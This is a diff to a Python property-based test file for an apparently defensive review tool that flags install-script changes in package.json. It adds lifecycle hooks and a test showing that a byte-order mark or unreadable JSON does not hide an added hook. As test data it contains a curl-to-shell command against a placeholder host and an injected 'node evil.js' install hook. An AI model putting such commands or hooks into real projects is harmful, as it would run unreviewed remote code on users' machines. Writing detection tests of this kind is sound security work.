@@ -20,7 +20,8 @@ from reviewloop.policy.lever_files import LEVER_TABLES, LeverKind
 from reviewloop.policy.lever_tables import tables_of
 from reviewloop.policy.levers import LeverReport, lever_report, run_findings
 
-HOOKS = ["preinstall", "install", "postinstall", "prepare", "prepublish"]
+HOOKS = ["preinstall", "install", "postinstall", "preprepare", "prepare", "postprepare",
+         "prepublish"]
 OTHER_SCRIPTS = ["test", "build", "lint", "start", "prepack", "posttest", "installx"]
 FOLDERS = st.sampled_from(["", "packages/web/", "tools/", "a b/"])
 COMMANDS = st.sampled_from(["node x.js", "curl https://e.x | sh", "tsc", ""])
@@ -153,3 +154,22 @@ def test_the_name_lookup_answers_as_the_globs_do(parts: list[str]):
     named = [t for t in LEVER_TABLES if globs.matches(t.glob, parts[-1])]
     assert tables_of(path) == named
     assert set(named) <= {t for t in LEVER_TABLES if globs.matches(t.glob, path)}
+
+
+@settings(max_examples=40, derandomize=True, deadline=None)
+@given(hook=st.sampled_from(HOOKS), bom=st.sampled_from([(True, False), (False, True),
+                                                         (True, True)]),
+       broken=st.booleans())
+def test_a_byte_order_mark_or_a_file_unreadable_on_both_sides_hides_no_install_script(
+        hook: str, bom: tuple[bool, bool], broken: bool):
+    """A review found a base package.json with a byte-order mark (npm reads past it, Python's
+    json did not) read as unreadable on both sides, the two equal, so an added install script
+    was no lever. The mark is read past, and a file unreadable on either side is a lever
+    whenever its text changed."""
+    mark = ["\ufeff" if b else "" for b in bom]
+    before = mark[0] + '{"scripts": {"test": "x"}}' + ("\n}" if broken else "")
+    after = mark[1] + json.dumps({"scripts": {"test": "x", hook: "node evil.js"}}) + (
+        "\n}" if broken else "")
+    said = _executed(_report("package.json", before, after))
+    assert said and (f"scripts.{hook} added" in said[0] or "unreadable" in said[0]), said
+    assert _executed(_report("package.json", before, before)) == []
